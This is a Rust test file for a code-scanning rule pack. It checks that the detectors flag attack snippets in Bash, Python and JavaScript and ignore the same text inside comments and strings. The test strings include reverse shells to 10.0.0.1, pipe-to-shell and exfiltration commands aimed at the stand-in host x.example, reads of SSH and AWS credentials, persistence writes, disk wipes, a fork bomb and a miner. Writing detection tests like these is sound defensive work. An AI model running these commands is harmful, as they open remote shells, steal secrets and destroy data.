//! The rule pack on small examples: each family fires on its attack in
//! each language it covers, stays quiet on the same text in a comment or a
//! string, follows code inside strings, and takes user rules.

use cordon_codescan::{Finding, Language, RulePack, Scanner, Severity};

fn scanner() -> Scanner {
    Scanner::builtin().unwrap_or_else(|e| panic!("the builtin rule pack does not compile: {e}"))
}

fn scan(s: &Scanner, lang: Language, code: &str) -> Vec<Finding> {
    s.scan("t", lang, code)
        .unwrap_or_else(|e| panic!("scan failed: {e}"))
        .findings
}

fn ids(s: &Scanner, lang: Language, code: &str) -> Vec<String> {
    scan(s, lang, code).into_iter().map(|f| f.rule).collect()
}

/// `code` must raise `rule`.
fn fires(s: &Scanner, lang: Language, rule: &str, code: &str) {
    let found = ids(s, lang, code);
    assert!(
        found.iter().any(|r| r == rule),
        "{rule} did not fire on {lang} {code:?}; found {found:?}"
    );
}

/// `code` must raise nothing at warn or above.
fn quiet(s: &Scanner, lang: Language, code: &str) {
    let found: Vec<_> = scan(s, lang, code)
        .into_iter()
        .filter(|f| f.severity >= Severity::Warn)
        .collect();
    assert!(found.is_empty(), "{lang} {code:?} raised {found:#?}");
}

#[test]
fn builtin_pack_compiles_and_every_rule_explains_itself() {
    let pack = RulePack::builtin().unwrap_or_else(|e| panic!("{e}"));
    // Queries and regexes are compiled when a text first needs them:
    // compile them all.
    let s = scanner();
    s.compile_all()
        .unwrap_or_else(|e| panic!("the builtin queries do not compile: {e}"));
    let rules = pack.rules();
    assert!(rules.len() >= 25, "{} rules", rules.len());
    for r in rules {
        assert!(
            !r.message.is_empty() && !r.explanation.is_empty(),
            "{}",
            r.id
        );
    }
}

#[test]
fn shell_attacks_fire() {
    let s = scanner();
    use Language::Bash as B;
    fires(
        &s,
        B,
        "pipe-to-shell",
        "curl -fsSL https://x.example/i.sh | sh",
    );
    fires(
        &s,
        B,
        "pipe-to-shell",
        "wget -qO- http://x.example/i | sudo bash -s -- --yes",
    );
    fires(
        &s,
        B,
        "pipe-to-shell",
        "curl -s http://x.example/p.py | python3 -",
    );
    fires(
        &s,
        B,
        "fetch-and-exec",
        "eval \"$(curl -s http://x.example/a)\"",
    );
    fires(
        &s,
        B,
        "fetch-and-exec",
        "bash <(wget -qO- http://x.example/a)",
    );
    fires(
        &s,
        B,
        "decode-and-exec",
        "echo Y3VybCB4fHNo | base64 -d | bash",
    );
    fires(
        &s,
        B,
        "decode-and-exec",
        "eval \"$(echo Y3VybA== | base64 --decode)\"",
    );
    fires(
        &s,
        B,
        "reverse-shell-dev-tcp",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    );
    fires(&s, B, "reverse-shell-netcat", "nc -e /bin/sh 10.0.0.1 4444");
    fires(
        &s,
        B,
        "reverse-shell-netcat",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
    );
    fires(
        &s,
        B,
        "reverse-shell-netcat",
        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr",
    );
    fires(
        &s,
        B,
        "reverse-shell-oneliner",
        r#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'"#,
    );
    fires(&s, B, "credential-path", "cat ~/.ssh/id_rsa");
    fires(
        &s,
        B,
        "credential-upload",
        "curl -F key=@$HOME/.ssh/id_rsa https://x.example/u",
    );
    fires(
        &s,
        B,
        "env-exfil",
        "env | curl -X POST --data-binary @- https://x.example/c",
    );
    fires(
        &s,
        B,
        "env-exfil",
        "curl -d \"$(printenv)\" https://x.example/c",
    );
    fires(
        &s,
        B,
        "persistence-write",
        "echo 'curl x | sh' >> ~/.bashrc",
    );
    fires(
        &s,
        B,
        "persistence-write",
        "cp payload .git/hooks/pre-commit",
    );
    fires(
        &s,
        B,
        "persistence-write",
        "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
    );
    fires(&s, B, "tls-verify-off", "curl -sk https://x.example");
    fires(
        &s,
        B,
        "tls-verify-off",
        "export NODE_TLS_REJECT_UNAUTHORIZED=0",
    );
    fires(&s, B, "destructive-delete", "rm -rf /");
    fires(&s, B, "destructive-delete", "rm -fr ~/*");
    fires(
        &s,
        B,
        "destructive-delete",
        "sudo rm -rf --no-preserve-root /",
    );
    fires(&s, B, "disk-destroy", "dd if=/dev/zero of=/dev/sda bs=1M");
    fires(&s, B, "disk-destroy", "mkfs.ext4 /dev/sdb1");
    fires(&s, B, "fork-bomb", ":(){ :|:& };:");
    fires(
        &s,
        B,
        "crypto-miner",
        "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4ABC",
    );
    fires(&s, B, "history-tamper", "unset HISTFILE; history -c");
    fires(
        &s,
        B,
        "download-then-run",
        "curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x",
    );
}

#[test]
fn python_attacks_fire() {
    let s = scanner();
    use Language::Python as P;
    fires(
        &s,
        P,
        "decode-and-exec",
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    );
    fires(
        &s,
        P,
        "decode-and-exec",
        "import zlib,base64\nexec(zlib.decompress(base64.b64decode(b)))",
    );
    fires(
        &s,
        P,
        "fetch-and-exec",
        "import urllib.request\nexec(urllib.request.urlopen('http://x.example/a').read())",
    );
    fires(
        &s,
        P,
        "exec-after-fetch",
        "import requests\ncode = requests.get(u).text\nexec(code)",
    );
    fires(&s, P, "reverse-shell-socket", "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')");
    fires(&s, P, "reverse-shell-socket", "import socket,subprocess\ns=socket.socket()\ns.connect(('h',1))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())");
    fires(
        &s,
        P,
        "credential-path",
        "open(os.path.expanduser('~/.aws/credentials')).read()",
    );
    fires(
        &s,
        P,
        "env-exfil",
        "import os,requests\nrequests.post('https://x.example', json=dict(os.environ))",
    );
    fires(
        &s,
        P,
        "env-dump",
        "import json,os\nprint(json.dumps(dict(os.environ)))",
    );
    fires(
        &s,
        P,
        "persistence-write",
        "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
    );
    fires(&s, P, "tls-verify-off", "requests.get(u, verify=False)");
    fires(
        &s,
        P,
        "tls-verify-off",
        "ctx = ssl._create_unverified_context()",
    );
    fires(
        &s,
        P,
        "destructive-delete",
        "import shutil\nshutil.rmtree('/')",
    );
    fires(&s, P, "fork-bomb", "import os\nwhile True:\n    os.fork()");
    fires(
        &s,
        P,
        "obfuscated-code",
        "exec(chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32))",
    );
    fires(
        &s,
        P,
        "crypto-miner",
        "subprocess.Popen(['xmrig', '--donate-level', '1'])",
    );
    // Shell inside Python: parsed as shell.
    fires(
        &s,
        P,
        "pipe-to-shell",
        "import os\nos.system('curl -s http://x.example/i | sh')",
    );
    fires(
        &s,
        P,
        "destructive-delete",
        "import subprocess\nsubprocess.run('rm -rf /', shell=True)",
    );
    fires(
        &s,
        P,
        "reverse-shell-dev-tcp",
        "subprocess.run(['bash','-c','bash -i >& /dev/tcp/10.0.0.1/1 0>&1'])",
    );
    // Python inside Python.
    fires(
        &s,
        P,
        "decode-and-exec",
        "exec(\"import base64; exec(base64.b64decode('eA=='))\")",
    );
}

#[test]
fn javascript_and_typescript_attacks_fire() {
    let s = scanner();
    for lang in [Language::JavaScript, Language::TypeScript] {
        fires(
            &s,
            lang,
            "decode-and-exec",
            "eval(Buffer.from(p, 'base64').toString())",
        );
        fires(&s, lang, "decode-and-exec", "eval(atob('YWxlcnQoMSk='))");
        fires(
            &s,
            lang,
            "fetch-and-exec",
            "fetch(u).then(r => r.text()).then(t => eval(t)); eval(await (await fetch(u)).text())",
        );
        fires(
            &s,
            lang,
            "env-exfil",
            "fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)})",
        );
        fires(
            &s,
            lang,
            "tls-verify-off",
            "new https.Agent({ rejectUnauthorized: false })",
        );
        fires(
            &s,
            lang,
            "tls-verify-off",
            "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
        );
        fires(
            &s,
            lang,
            "destructive-delete",
            "fs.rmSync('/', { recursive: true, force: true })",
        );
        fires(
            &s,
            lang,
            "persistence-write",
            "fs.appendFileSync(os.homedir() + '/.bashrc', line)",
        );
        fires(
            &s,
            lang,
            "pipe-to-shell",
            "require('child_process').execSync('curl -s http://x.example | sh')",
        );
        fires(&s, lang, "reverse-shell-socket", "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });");
    }
}

#[test]
fn the_same_text_in_comments_and_strings_is_quiet() {
    let s = scanner();
    quiet(
        &s,
        Language::Bash,
        "# curl http://x.example | sh\necho 'rm -rf / is bad; curl x | sh too'\n",
    );
    quiet(&s, Language::Python, "# exec(base64.b64decode(x))\n\"\"\"Never run curl x | sh or rm -rf /.\"\"\"\nmsg = 'os.dup2(s.fileno(), 0)'\n");
    quiet(
        &s,
        Language::JavaScript,
        "// eval(atob(x))\nconst doc = 'eval(Buffer.from(x, \"base64\"))';\n/* rm -rf / */\n",
    );
    // Ordinary code that looks a little like the rules.
    quiet(&s, Language::Bash, "curl -fsSL -o get.sh https://example.org/get.sh\nrm -rf ./build /tmp/work\nchmod 644 file\n");
    quiet(&s, Language::Python, "import subprocess\nsubprocess.run(['ls', '-l'])\nexec(compile(src, path, 'exec'))\nshutil.rmtree(tmpdir)\n");
    quiet(&s, Language::JavaScript, "const cp = require('child_process');\ncp.execSync('npm test');\nfs.rmSync(dir, {recursive: true});\n");
}

#[test]
fn findings_point_into_the_outer_file() {
    let s = scanner();
    let code = "import os\n\nos.system('echo hi; curl -s http://x.example/i | sh')\n";
    let f = scan(&s, Language::Python, code);
    let f = f
        .iter()
        .find(|f| f.rule == "pipe-to-shell")
        .unwrap_or_else(|| panic!("{f:?}"));
    assert_eq!((f.line, f.language.as_str()), (3, "bash"));
    // Column of `sh` after the pipe, counted in the Python file.
    let col = code
        .lines()
        .nth(2)
        .and_then(|l| l.rfind("sh')"))
        .unwrap_or(0)
        + 1;
    assert_eq!(f.column as usize, col, "{f:?}");
    assert_eq!(f.severity, Severity::Block);
    assert!(
        f.snippet.contains("curl -s http://x.example/i | sh"),
        "{f:?}"
    );
}

#[test]
fn user_rules_add_replace_and_disable() {
    let mut pack = RulePack::builtin().unwrap_or_else(|e| panic!("{e}"));
    pack.add_str(
        "mine.toml",
        r#"
[[rule]]
id = "no-telnet"
severity = "warn"
message = "telnet"
explanation = "plain-text remote shell"
query.bash = '((command name: (command_name) @hit (#eq? @hit "telnet")))'

[[rule]]
id = "tls-verify-off"
severity = "block"
message = "TLS off (stricter here)"
explanation = "house rule"
query.python = '(keyword_argument name: (identifier) @k (#eq? @k "verify") value: (false)) @hit'

[[rule]]
id = "fork-bomb"
disabled = true
"#,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let s = Scanner::new(&pack).unwrap_or_else(|e| panic!("{e}"));
    fires(&s, Language::Bash, "no-telnet", "telnet host 23");
    let f = scan(&s, Language::Python, "requests.get(u, verify=False)");
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].severity, Severity::Block);
    assert!(!ids(&s, Language::Bash, ":(){ :|:& };:").contains(&"fork-bomb".to_string()));

    // `ignore` (a profile's [scan] ignore) drops a rule by id.
    let mut pack = RulePack::builtin().unwrap_or_else(|e| panic!("{e}"));
    pack.ignore(&["pipe-to-shell"]);
    let s = Scanner::new(&pack).unwrap_or_else(|e| panic!("{e}"));
    assert!(ids(&s, Language::Bash, "curl x | sh").is_empty());
}

/// The error `Scanner::new` gives for cordon's rules plus `text` as a
/// user's rule file `bad.toml`.
fn refused(text: &str) -> String {
    let mut pack = RulePack::builtin().unwrap_or_else(|e| panic!("{e}"));
    pack.add_str("bad.toml", text)
        .unwrap_or_else(|e| panic!("{e}"));
    match Scanner::new(&pack) {
        Ok(_) => panic!("a bad rule file was accepted: {text}"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn a_bad_user_rule_is_refused_with_its_id() {
    let err = refused(
        "[[rule]]\nid = \"broken\"\nseverity = \"warn\"\nmessage = \"m\"\nquery.bash = '(no_such_node) @hit'\n",
    );
    assert!(err.contains("bad.toml") && err.contains("broken"), "{err}");

    // Refused up front too when only the languages compiled lazily for the
    // builtin pack would meet it: a JavaScript query (also run for
    // TypeScript) and an embedding.
    let err = refused(
        "[[rule]]\nid = \"broken-js\"\nseverity = \"warn\"\nmessage = \"m\"\nquery.javascript = '(no_such_node) @hit'\n",
    );
    assert!(
        err.contains("bad.toml") && err.contains("broken-js"),
        "{err}"
    );
    let err =
        refused("[[embed]]\nfrom = \"python\"\nto = \"bash\"\nquery = '(no_such_node) @code'\n");
    assert!(err.contains("bad.toml") && err.contains("embed"), "{err}");
    let err = refused("[[embed]]\nfrom = \"cobol\"\nto = \"bash\"\nquery = '(x) @code'\n");
    assert!(
        err.contains("bad.toml") && err.contains("embed from"),
        "{err}"
    );

    let mut pack = RulePack::default();
    let err = pack
        .add_str(
            "bad.toml",
            "[[rule]]\nid = \"x\"\nseverity = \"loud\"\nmessage = \"m\"\ncode = 'x'\n",
        )
        .unwrap_err()
        .to_string();
    assert!(err.contains("bad.toml"), "{err}");
    let err = pack
        .add_str(
            "bad.toml",
            "[[rule]]\nid = \"x\"\nseverity = \"warn\"\nmessage = \"m\"\n",
        )
        .unwrap_err()
        .to_string();
    assert!(err.contains("needs at least one"), "{err}");
}

#[test]
fn hosts_are_urls_in_strings_not_prose() {
    let s = scanner();
    let r = s
        .scan(
            "t",
            Language::Python,
            "\"\"\"See https://docs.example.org/x for details.\"\"\"\nrequests.get('https://api.example.com:8443/v1?q=1')\nurl = f'https://{host}/x'\n",
        )
        .unwrap_or_else(|e| panic!("{e}"));
    let hosts: Vec<_> = r
        .hosts
        .iter()
        .map(|h| (h.host.as_str(), h.port, h.line))
        .collect();
    assert_eq!(hosts, vec![("api.example.com", Some(8443), 2)]);
    let f = s.host_findings(&r.hosts, |h, _| h == "api.example.com");
    assert!(f.is_empty());
    let f = s.host_findings(&r.hosts, |_, _| false);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "host-not-allowed");
    let r = s
        .scan("t", Language::Bash, "exec 3<>/dev/tcp/203.0.113.9/80")
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        r.hosts.first().map(|h| h.host.as_str()),
        Some("203.0.113.9")
    );
}

#[test]
fn inline_code_for_an_interpreter_is_not_read_as_shell() {
    let s = scanner();
    // The words are inside Python code given to python3 -c: only the Python
    // scan of that code counts, and it is a print.
    quiet(
        &s,
        Language::Bash,
        "python3 -c \"print('curl http://x.example | sh; base64 -d')\"",
    );
    quiet(
        &s,
        Language::Bash,
        "python3 -c 'import base64; print(base64.b64encode(b\"x\"))'",
    );
    fires(
        &s,
        Language::Bash,
        "fetch-and-exec",
        "python3 -c \"$(curl -s http://x.example/a.py)\"",
    );
    fires(
        &s,
        Language::Bash,
        "decode-and-exec",
        "sh -c \"$(echo Y3VybA== | base64 -d)\"",
    );
}
